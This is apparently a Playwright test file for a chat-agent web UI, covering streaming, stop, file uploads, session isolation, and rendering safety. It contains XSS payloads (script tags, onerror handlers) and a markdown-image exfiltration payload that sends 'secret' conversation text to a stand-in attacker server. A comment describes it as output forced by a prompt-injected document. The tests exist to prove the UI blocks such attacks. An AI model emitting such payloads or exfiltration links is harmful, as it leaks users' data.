"""The web UI in a real browser: Debian's Chromium driven by Playwright against WebUI on 127.0.0.1.

One app and one browser for the module; each test gets its own browser context (its own session).
"""

from __future__ import annotations

import os
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from chatagent import Assistant, BasicAgent, FnCallAgent, Message, ModelServiceError, ScriptedLLM, tool_call
from chatagent.gui import WebUI
from chatagent.llm.base import BaseChatModel, Usage
from chatagent.llm.prepare import unmarked

HELD_S = 120  # seconds the held answer waits for the test (a deadline: the test releases it once it saw half)
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
XSS = (
    'Look: <script>window.__pwned=1</script> and <img src=x onerror="window.__pwned=2"> done.\n\n'
    "Inline `<b onmouseover=window.__pwned=4>code</b>` and [x](`c) <img src=x onerror=window.__pwned=5> `\n\n"
    "| a | b |\n|---|---|\n| `x | <img src=x onerror=window.__pwned=6> y` | z |\n\n"
    "```html\n<script>window.__pwned=7</script>\n```\n"
)

EXFIL = (
    "Summary done. ![status]({url}/pixel.png?c=the+secret+conversation)\n\n"
    "Also ![logo][ref] and a link [{url}/link]({url}/link) and `![code]({url}/code.png)`.\n\n"
    "[ref]: {url}/ref.png?c=more+secrets\n"
)

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(120),
    pytest.mark.skipif(
        not os.path.exists(CHROMIUM),
        reason="Debian's chromium is not installed at /usr/bin/chromium (scripts/setup.sh installs it as root)",
    ),
]


@dataclass
class Call:
    messages: list[Message]
    sent: int = 0
    closed_early: threading.Event = field(default_factory=threading.Event)


class BrowserLLM(BaseChatModel):
    """A model whose reply depends on the user's text: 'slow N' streams N words slowly; 'held N' streams half of
    N words, then waits for `release` (set by the test) before the rest; 'xss' answers with HTML; 'files' lists
    the file items it received; 'fail' fails; anything else is echoed."""

    def __init__(self, delay: float = 0.03) -> None:
        super().__init__({"model": "browser-test"})
        self.delay = delay
        self.calls: list[Call] = []
        self.release = threading.Event()

    def _chat_stream(self, messages, functions, cfg, usage: Usage | None) -> Iterator[list[Message]]:
        call = Call(messages)
        self.calls.append(call)
        text = messages[-1].text.strip()

        def say(s: str) -> list[Message]:
            return [Message.unchecked("assistant", s, None, None, None, {"index": 0})]

        if text.startswith("slow"):
            n = int(text.split()[1])
            try:
                for i in range(n):
                    call.sent = i + 1
                    yield say(f"w{i} ")
                    time.sleep(self.delay)
            finally:
                if call.sent < n:
                    call.closed_early.set()
        elif text.startswith("held"):
            n = int(text.split()[1])
            for i in range(n):
                if i == n // 2 and not self.release.wait(HELD_S):
                    raise TimeoutError(f"the test did not release the answer within {HELD_S} s")
                yield say(f"w{i} ")
        elif text == "xss":
            yield say(XSS)
        elif text.startswith("files"):
            items = [i for i in messages[-1].content if not isinstance(i, str) and i.kind == "file"]
            yield say("received " + ", ".join(Path(i.file).name for i in items))
        elif text.startswith("exfil "):  # a prompt-injected document made the model write this
            yield say(EXFIL.format(url=text.split()[1]))
        elif text == "fail":
            raise ModelServiceError(400, "the model refused <b>this</b>")
        else:
            yield say(f"echo: {text}")


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def make_pdf(path: Path, lines: list[str]) -> Path:
    """A one-page PDF with `lines` of text in Helvetica, written by hand."""
    ops = " ".join(f"({line.replace('(', '[').replace(')', ']')}) Tj 0 -16 Td" for line in lines)
    content = f"BT /F1 12 Tf 72 720 Td {ops} ET"
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        "/Resources << /Font << /F1 5 0 R >> >> >>",
        f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{n} 0 obj\n{body}\nendobj\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += "".join(f"{o:010d} 00000 n \n" for o in offsets).encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    path.write_bytes(out)
    return path


def _calculator() -> FnCallAgent:
    def add(a: int, b: int) -> int:
        """Add two integers."""
        return a + b

    def reply(messages, functions):
        if messages[-1].role == "function":
            return f"The sum is {unmarked(messages[-1].text)}."
        return tool_call("add", {"a": 2, "b": 3})

    return FnCallAgent(function_list=[add], llm=ScriptedLLM(default=reply), name="Calculator")


@dataclass
class App:
    url: str
    llm: BrowserLLM


@pytest.fixture(scope="module")
def app() -> Iterator[App]:
    llm = BrowserLLM()
    agents = [BasicAgent(llm=llm, name="Echo"), _calculator()]
    ui = WebUI(agents, chatbot_config={"prompt.suggestions": ["echo suggested"]})
    url = ui.run(server_port=free_port(), block=False)
    yield App(url.rstrip("/"), llm)
    ui.close()


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        yield b
        b.close()


def open_page(browser, app: App, external: list[str]):
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(20_000)

    def note(request) -> None:
        if not request.url.startswith((app.url, "data:", "blob:")):
            external.append(request.url)

    page.on("request", note)
    page.goto(app.url)
    page.wait_for_selector("#chat-input textarea")
    return context, page


@pytest.fixture
def page(browser, app: App):
    external: list[str] = []
    context, page = open_page(browser, app, external)
    yield page
    context.close()
    assert external == [], f"the page tried to reach outside the app: {external}"


def send(page, text: str) -> None:
    page.fill("#chat-input textarea", text)
    page.press("#chat-input textarea", "Enter")


def bot_text(page) -> str:
    return "\n".join(page.locator('#chatbot [data-testid="bot"]').all_inner_texts())


def wait_for(condition, timeout: float = 15.0, what: str = "condition") -> None:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if condition():
            return
        time.sleep(0.05)
    raise AssertionError(f"timed out waiting for {what}")


def test_a_reply_streams_into_the_page(page, app: App) -> None:
    from playwright.sync_api import expect

    app.llm.release.clear()
    send(page, "held 60")  # the model gives w0..w29, then holds the rest until released
    bot = page.locator("#chatbot")
    expect(bot).to_contain_text("w29", timeout=60_000)  # shown while the answer is still being made
    assert "w59" not in bot_text(page)
    app.llm.release.set()
    expect(bot).to_contain_text("w59", timeout=60_000)
    expect(page.locator("#chat-input textarea")).to_be_enabled()


def test_stop_closes_the_agents_stream(page, app: App) -> None:
    from playwright.sync_api import expect

    send(page, "slow 3000")
    expect(page.locator("#chatbot")).to_contain_text("w5")
    call = app.llm.calls[-1]
    page.click("#stop-btn")
    assert call.closed_early.wait(10), "the model's stream was not closed after Stop"
    sent = call.sent
    expect(page.locator("#chatbot")).to_contain_text("Stopped")
    expect(page.locator("#chat-input textarea")).to_be_enabled()
    time.sleep(0.3)
    assert call.sent == sent < 3000
    send(page, "after stop")  # the session goes on, with the partial answer in its history
    expect(page.locator("#chatbot")).to_contain_text("echo: after stop")
    history = app.llm.calls[-1].messages
    assert history[-2].role == "assistant" and history[-2].text.startswith("w0 w1 w2")


def test_an_uploaded_pdf_reaches_the_agent_as_a_file_item(page, app: App, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    pdf = make_pdf(tmp_path / "report.pdf", ["Quarterly report", "The launch code is ZEBRA-42."])
    page.set_input_files("#chat-input input[type=file]", str(pdf))
    expect(page.locator("#chat-input").get_by_role("listitem", name="File thumbnail")).to_have_count(1)
    send(page, "files please")
    expect(page.locator("#chatbot")).to_contain_text("received report.pdf")
    user = app.llm.calls[-1].messages[-1]
    files = [i.file for i in user.content if i.kind == "file"]
    assert len(files) == 1 and Path(files[0]).name == "report.pdf"
    assert Path(files[0]).read_bytes() == pdf.read_bytes()
    expect(page.locator('#chatbot [data-testid="user"]')).to_contain_text("report.pdf")


def test_two_browser_sessions_stay_isolated(browser, app: App) -> None:
    from playwright.sync_api import expect

    external: list[str] = []
    (ctx1, p1), (ctx2, p2) = open_page(browser, app, external), open_page(browser, app, external)
    try:
        send(p1, "apple")
        send(p2, "banana")
        expect(p1.locator("#chatbot")).to_contain_text("echo: apple")
        expect(p2.locator("#chatbot")).to_contain_text("echo: banana")
        send(p1, "cherry")
        expect(p1.locator("#chatbot")).to_contain_text("echo: cherry")
        time.sleep(0.3)
        assert "banana" not in p1.locator("#chatbot").inner_text()
        assert (
            "apple" not in p2.locator("#chatbot").inner_text() and "cherry" not in p2.locator("#chatbot").inner_text()
        )
        seen = [c.messages for c in app.llm.calls if c.messages[-1].text == "cherry"][-1]
        assert [m.text for m in seen if m.role == "user"] == ["apple", "cherry"]
    finally:
        ctx1.close()
        ctx2.close()
    assert external == []


def test_html_in_replies_and_input_stays_text(page, app: App) -> None:
    from playwright.sync_api import expect

    send(page, "xss")
    expect(page.locator("#chatbot")).to_contain_text("<script>window.__pwned=1</script>")
    expect(page.locator("#chatbot")).to_contain_text('<img src=x onerror="window.__pwned=2">')
    expect(page.locator("#chatbot pre")).to_contain_text("<script>window.__pwned=7</script>")  # code stays code
    expect(page.locator("#chatbot table")).to_have_count(1)
    send(page, '<img src=y onerror="window.__pwned=3"> hi')
    expect(page.locator('#chatbot [data-testid="user"]').last).to_contain_text('<img src=y onerror="window.__pwned=3">')
    time.sleep(0.3)
    assert page.evaluate("window.__pwned") is None
    assert page.locator("#chatbot img, #chatbot script, #chatbot [onmouseover]").count() == 0


def test_errors_show_as_a_readable_message(page, app: App) -> None:
    from playwright.sync_api import expect

    send(page, "fail")
    expect(page.locator("#chatbot")).to_contain_text("The model service failed (400): the model refused <b>this</b>")
    assert "Traceback" not in page.content()
    send(page, "still here")
    expect(page.locator("#chatbot")).to_contain_text("echo: still here")


def test_regenerate_clear_and_suggestions(page, app: App) -> None:
    from playwright.sync_api import expect

    send(page, "one")
    expect(page.locator("#chatbot")).to_contain_text("echo: one")
    n = len(app.llm.calls)
    page.click("#regenerate-btn")
    wait_for(lambda: len(app.llm.calls) == n + 1, what="the regenerated answer")
    expect(page.locator('#chatbot [data-testid="bot"]')).to_have_count(1)
    assert [m.text for m in app.llm.calls[-1].messages] == ["one"]
    page.click("#clear-btn")  # asks first: the conversation stays, the button says what a second click does
    expect(page.locator("#clear-btn")).to_contain_text("click again")
    expect(page.locator('#chatbot [data-testid="user"]')).to_have_count(1)
    page.click("#clear-btn")
    expect(page.locator('#chatbot [data-testid="user"]')).to_have_count(0)
    expect(page.locator("#clear-btn")).to_have_text("Clear")
    page.get_by_text("echo suggested").click()
    expect(page.locator("#chat-input textarea")).to_have_value("echo suggested")
    page.press("#chat-input textarea", "Enter")
    expect(page.locator("#chatbot")).to_contain_text("echo: echo suggested")
    assert [m.text for m in app.llm.calls[-1].messages] == ["echo suggested"]  # the cleared turn is gone


def test_agent_selector_and_collapsible_tool_blocks(page, app: App) -> None:
    from playwright.sync_api import expect

    page.click("#agent-selector input")
    page.get_by_role("option", name="Calculator").click()
    send(page, "what is 2+3?")
    expect(page.locator("#chatbot")).to_contain_text("The sum is 5.")
    titles = page.locator("#chatbot .thought-group .title").all_inner_texts()
    assert any("add" in t for t in titles) and any("Result of add" in t for t in titles)
    expect(page.locator("#chatbot")).to_contain_text("Calculator")  # the speaker's name, with several agents
    assert "Echo" not in bot_text(page)


def test_an_assistant_cites_an_uploaded_pdf(browser, tmp_path: Path) -> None:
    from playwright.sync_api import expect

    def answer(messages, functions) -> str:
        context = "\n".join(m.text for m in messages)  # the excerpts come with the question
        found = "ZEBRA-42" in context
        return f"The code is {'ZEBRA-42' if found else 'unknown'} (source: {'report.pdf' if 'report.pdf' in context else '?'})"

    ui = WebUI(Assistant(llm=ScriptedLLM(default=answer), name="Assistant"))
    url = ui.run(server_port=free_port(), block=False)
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(url)
        pdf = make_pdf(tmp_path / "report.pdf", ["Quarterly report", "The launch code is ZEBRA-42."])
        page.set_input_files("#chat-input input[type=file]", str(pdf))
        expect(page.locator("#chat-input").get_by_role("listitem", name="File thumbnail")).to_have_count(1)
        send(page, "What is the launch code?")
        expect(page.locator("#chatbot")).to_contain_text("The code is ZEBRA-42 (source: report.pdf)", timeout=60_000)
    finally:
        context.close()
        ui.close()


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    """A second loopback server standing for the attacker's: it records every request it gets."""
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


def test_images_in_a_reply_do_not_make_the_browser_fetch_anything(browser, app: App, attacker) -> None:
    from playwright.sync_api import expect

    url, seen = attacker
    external: list[str] = []
    context, page = open_page(browser, app, external)
    try:
        send(page, f"exfil {url}")
        expect(page.locator("#chatbot")).to_contain_text("Summary done.")
        # the images are shown as links to click
        links = page.locator("#chatbot a")
        shown_as_links = [links.filter(has_text=alt).count() for alt in ("status", "logo")]
        # and even an image the page itself asked for (say, through a renderer we did not foresee) is refused
        page.evaluate("u => { const i = new Image(); i.src = u + '/direct.png'; document.body.appendChild(i); }", url)
        page.evaluate("u => fetch(u + '/fetch').catch(() => null)", url)
        send(page, "after")
        expect(page.locator("#chatbot")).to_contain_text("echo: after")
        time.sleep(0.5)
    finally:
        context.close()
    assert seen == [], f"the browser fetched from the attacker's server: {seen}"
    # nothing the renderer made even tried (the page's own Image() and fetch() did, and were refused)
    assert [u for u in external if u.startswith(url) and not u.endswith(("/direct.png", "/fetch"))] == []
    assert shown_as_links == [1, 1]


def test_the_app_sends_a_restrictive_content_security_policy(app: App) -> None:
    import httpx

    for path in ("/", "/config", "/gradio_api/info"):
        response = httpx.get(app.url + path, timeout=10)
        policy = response.headers.get("content-security-policy", "")
        directives = {d.split()[0]: d.split()[1:] for d in policy.split(";") if d.strip()}
        assert directives.get("img-src") == ["'self'", "data:", "blob:"], (path, policy)
        assert directives.get("connect-src") == ["'self'"], (path, policy)
        assert directives.get("default-src") == ["'self'"] and directives.get("object-src") == ["'none'"], policy
        assert response.headers.get("x-content-type-options") == "nosniff"
